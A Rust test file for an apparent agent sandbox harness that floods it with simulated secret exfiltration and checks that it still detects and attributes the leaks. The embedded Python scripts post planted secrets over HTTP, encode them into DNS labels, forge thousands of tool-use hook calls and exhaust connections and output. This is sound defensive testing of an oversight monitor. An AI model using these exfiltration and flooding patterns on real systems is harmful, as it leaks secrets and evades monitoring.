//! A flood fills no memory and hides no secret, ends in time, and who lives next door notices nothing of it.
//!
//! Each comes from one Python process with a few threads and connections that it keeps: what is slow is never the flooder.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use libtest_mimic::Trial;
use redroom::{Decision, Limits, Redroom, Result, RunOptions, RunResult, Script, Suite, ToolCall, Turn};

use crate::asking::Asking;
use crate::beside::{Neighbour, codes};
use crate::trial;

pub(crate) fn trials() -> Vec<Trial> {
    let suite = || Suite::new().parallel(2);
    // What a hundred thousand take depends on who else wants the processors: minutes, where many do.
    vec![
        trial("floods::twelve_thousand_hits_hide_no_secret_and_fill_no_memory", suite, |redroom| hits(redroom, FEW)),
        trial("floods::twelve_thousand_names_hide_no_secret_and_fill_no_memory", suite, |redroom| names(redroom, FEW)),
        trial("floods::twelve_thousand_hook_calls_hide_no_secret_and_fill_no_memory", suite, |redroom| {
            hook_calls(redroom, FEW)
        }),
        trial("floods::a_hundred_thousand_hits_hide_no_secret_and_fill_no_memory", suite, |redroom| {
            hits(redroom, MANY)
        })
        .with_ignored_flag(true),
        trial("floods::a_hundred_thousand_names_hide_no_secret_and_fill_no_memory", suite, |redroom| {
            names(redroom, MANY)
        })
        .with_ignored_flag(true),
        trial("floods::a_hundred_thousand_hook_calls_hide_no_secret_and_fill_no_memory", suite, |redroom| {
            hook_calls(redroom, MANY)
        })
        .with_ignored_flag(true),
        trial("floods::a_gigabyte_of_output_ends_its_turn_and_fills_no_memory", suite, output),
        trial("floods::thousands_of_connections_that_say_nothing_end_with_their_run", suite, silence),
    ]
}

/// How many of a kind: more than a log keeps.
const FEW: usize = 12_000;
const MANY: usize = 100_000;
/// The most that a flood may take for each thousand: many times what it does where nobody else wants the processors.
const THOUSAND: Duration = Duration::from_secs(18);
/// The most that the end of a run may take after it.
const FINISHED: Duration = Duration::from_secs(60);

/// Work for some threads: `do` gets a connection of its own, and numbers from 1 to `count`.
const CROWD: &str = r#"
import socket, sys, threading
count = int(sys.argv[1])
early, late = open("tokens").read().split()
def body(n, size): return {3: early, count - 2: late}.get(n, "").ljust(size, "x")
class Web:
    def __init__(self, address): self.s = socket.create_connection(address); self.f = self.s.makefile("rb")
    def post(self, host, path, body):
        head = f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(body)}\r\n\r\n"
        self.s.sendall((head + body).encode())
        status, length = self.f.readline(), 0
        while (line := self.f.readline()) > b"\r\n":
            if line.lower().startswith(b"content-length:"): length = int(line[15:])
        return status.split()[1], self.f.read(length)
def crowd(connect, do):
    numbers, lock, faults = iter(range(1, count + 1)), threading.Lock(), []
    def work():
        try:
            c = connect()
            while True:
                with lock: n = next(numbers, None)
                if n is None: return
                do(c, n)
        except Exception as fault: faults.append(repr(fault)); raise
    threads = [threading.Thread(target=work) for _ in range(8)]
    for thread in threads: thread.start()
    for thread in threads: thread.join()
    print("did", count if not faults else faults)
"#;

/// A run with two secrets that floods, and its neighbour. Gives what the flood's turn and the whole run came to.
async fn flood(
    redroom: &Redroom,
    options: RunOptions,
    script: &str,
    count: usize,
) -> Result<(Result<Turn>, Arc<RunResult>)> {
    let bound = THOUSAND * u32::try_from(count / 1000).unwrap_or_default();
    let options = options
        .name("flood")
        .limits(Limits::new().turn_timeout(bound))
        .workspace([("tokens", "${secrets.early} ${secrets.late}"), ("flood.py", &format!("{CROWD}{script}"))])
        .secrets([("early", "PLATYPUS-7731"), ("late", "WOMBAT-4412")]);
    let (flooding, neighbour) = tokio::join!(redroom.start_run(options), Neighbour::start(redroom));
    let (flooding, neighbour) = (flooding?, neighbour?);
    let worst = flooding.send(format!("python3 flood.py {count}"));
    let (sent, beside) = neighbour.beside(redroom, worst).await?;
    beside.assert_unnoticed();
    assert!(beside.took < bound, "{beside}");
    // It is as able as it was before, unless its turn was stopped.
    let after = flooding.send("curl -sS -m 60 -d x http://t.redroom.test/after").await?;
    assert_eq!(after.final_text, "ok", "{}", after.stderr);
    let began = Instant::now();
    let result = flooding.finish().await?;
    assert!(began.elapsed() < FINISHED, "the end took {:?}", began.elapsed());
    println!("the end took {:.1} s; {:?}", began.elapsed().as_secs_f64(), result.errors);
    neighbour.finish().await?;
    assert!(redroom.unattributed_hits().is_empty());
    Ok((sent, result))
}

/// The hits that prove a secret's leaks: its first and its last, or the one.
fn proofs(result: &RunResult, secret: &str) -> Vec<String> {
    let leaks = result.leaks().into_iter().filter(|leak| leak.secret == secret);
    let hits = leaks.filter_map(|leak| result.hits.iter().find(|hit| hit.id.to_string() == leak.reference));
    hits.map(|hit| if hit.dns.is_some() { hit.host.clone() } else { hit.path.clone() }).collect()
}

/// Every hit is there or was counted, and nothing else is wrong.
fn assert_counted(result: &RunResult, at_least: usize) {
    let highest = result.hits.iter().map(|hit| hit.id).max().unwrap_or_default();
    assert!(highest >= at_least as u64, "{highest}");
    assert_eq!(codes(result), ["entries_dropped"], "{:?}", result.errors);
    let told = format!("{} hits", highest - result.hits.len() as u64);
    assert!(result.errors[0].detail().starts_with(&told), "{told}: {}", result.errors[0].detail());
}

async fn hits(redroom: Arc<Redroom>, count: usize) -> Result<()> {
    const POSTS: &str = r#"
def post(c, n): assert c.post("t.redroom.test", f"/{n}", body(n, 4096 if n % 16 == 0 else 64)) == (b"200", b"ok")
crowd(lambda: Web(("192.0.2.20", 80)), post)
"#;
    let (sent, result) = flood(&redroom, RunOptions::new(), POSTS, count).await?;
    let sent = sent?;
    assert_eq!(sent.final_text, format!("did {count}\n"), "{}", sent.stderr);
    assert_eq!(
        (proofs(&result, "early"), proofs(&result, "late")),
        (vec!["/3".into()], vec![format!("/{}", count - 2)])
    );
    assert_counted(&result, count);
    Ok(())
}

async fn names(redroom: Arc<Redroom>, count: usize) -> Result<()> {
    const NAMES: &str = r#"
def connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(60); s.connect(("192.0.2.53", 53)); return s
def ask(s, n):
    label = (body(n, 0) + f"-{n}").encode()
    s.send(b"\0\7\1\0\0\1\0\0\0\0\0\0" + bytes([len(label)]) + label + b"\7redroom\4test\0\0\1\0\1")
    assert s.recv(512)[3] & 15 == 0
crowd(connect, ask)
"#;
    let (sent, result) = flood(&redroom, RunOptions::new(), NAMES, count).await?;
    let sent = sent?;
    assert_eq!(sent.final_text, format!("did {count}\n"), "{}", sent.stderr);
    let name = |secret: &str, n: usize| vec![format!("{secret}-{n}.redroom.test").to_lowercase()];
    let told = (proofs(&result, "early"), proofs(&result, "late"));
    assert_eq!(told, (name("PLATYPUS-7731", 3), name("WOMBAT-4412", count - 2)));
    assert_counted(&result, count);
    Ok(())
}

async fn hook_calls(redroom: Arc<Redroom>, count: usize) -> Result<()> {
    const CALLS: &str = r#"
import json
# A model's answer came: from now on a call that it did not ask for is made up.
asked = Web(("192.0.2.1", 81)).post("192.0.2.1:81", "/v1/messages", json.dumps({"model": "m", "messages": [{"role": "user", "content": "Hi."}]}))
assert asked[0] == b"200", asked
def call(c, n):
    payload = {"hook_event_name": "PreToolUse", "session_id": "s", "tool_name": "Bash",
        "tool_input": {"command": body(n, 512)}, "tool_use_id": f"toolu_{n}"}
    status, answer = c.post("192.0.2.1:82", "/hook", json.dumps(payload))
    assert status == b"200" and (b'"deny"' in answer or n < 2000), (n, answer)
crowd(lambda: Web(("192.0.2.1", 82)), call)
"#;
    static ASKED: AtomicUsize = AtomicUsize::new(0);
    ASKED.store(0, Ordering::SeqCst);
    let guard = async |_: ToolCall| {
        ASKED.fetch_add(1, Ordering::SeqCst);
        Decision::allow()
    };
    let options = RunOptions::new().agent(Asking::new()).model(Script::new().say("Hello.")).tool_call_check(guard);
    let (sent, result) = flood(&redroom, options, CALLS, count).await?;
    let sent = sent?;
    assert_eq!(sent.final_text, format!("did {count}\n"), "{}", sent.stderr);
    for (secret, id) in [("early", "toolu_3".to_owned()), ("late", format!("toolu_{}", count - 2))] {
        let call = result.tool_calls.iter().find(|call| call.tool_use_id.as_ref() == Some(&id));
        let seen = call.unwrap_or_else(|| panic!("{id} is not among {} calls", result.tool_calls.len()));
        assert!(seen.secrets.iter().any(|found| found.secret == secret), "{:?}", seen.secrets);
        assert!(!result.sightings_of(secret).is_empty());
    }
    assert_eq!(ASKED.load(Ordering::SeqCst), 1_000, "nobody asks a guard for ever about what was made up");
    assert_eq!(codes(&result), ["too_many_forged_calls", "entries_dropped"], "{:?}", result.errors);
    Ok(())
}

async fn output(redroom: Arc<Redroom>) -> Result<()> {
    const OUTPUT: &str = r#"
chunk = b"x" * 1_000_000
for _ in range(1000): sys.stdout.buffer.write(chunk)
"#;
    let (sent, result) = flood(&redroom, RunOptions::new(), OUTPUT, FEW).await?;
    assert_eq!(sent.map(drop).map_err(|error| error.code().to_owned()), Err("turn_output_too_large".to_owned()));
    assert_eq!(codes(&result), ["turn_output_too_large"], "{:?}", result.errors);
    assert!(result.turns[0].final_text.len() < 2_000_000);
    Ok(())
}

async fn silence(redroom: Arc<Redroom>) -> Result<()> {
    // Some thousands to each kind of door, which go on when the turn has ended.
    const SILENCE: &str = r#"
import os, resource
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
held = []
for n in range(12000):
    s = socket.socket(); s.setblocking(False)
    s.connect_ex([("192.0.2.20", 80), ("1.1.1.1", 443), ("8.8.8.8", 53), ("192.0.2.1", 81), ("192.0.2.1", 82), ("1.1.1.1", 6000 + n % 50)][n % 6])
    held.append(s)
print(len(held), socket.gethostbyname("names.redroom.test"))
"#;
    let (sent, result) = flood(&redroom, RunOptions::new(), SILENCE, FEW).await?;
    let sent = sent?;
    assert_eq!(sent.final_text, "12000 192.0.2.20\n", "{}", sent.stderr);
    // The log keeps the newest, and which of two that end with the run is newer is chance: what was pushed out was counted.
    assert_counted(&result, FEW);
    Ok(())
}
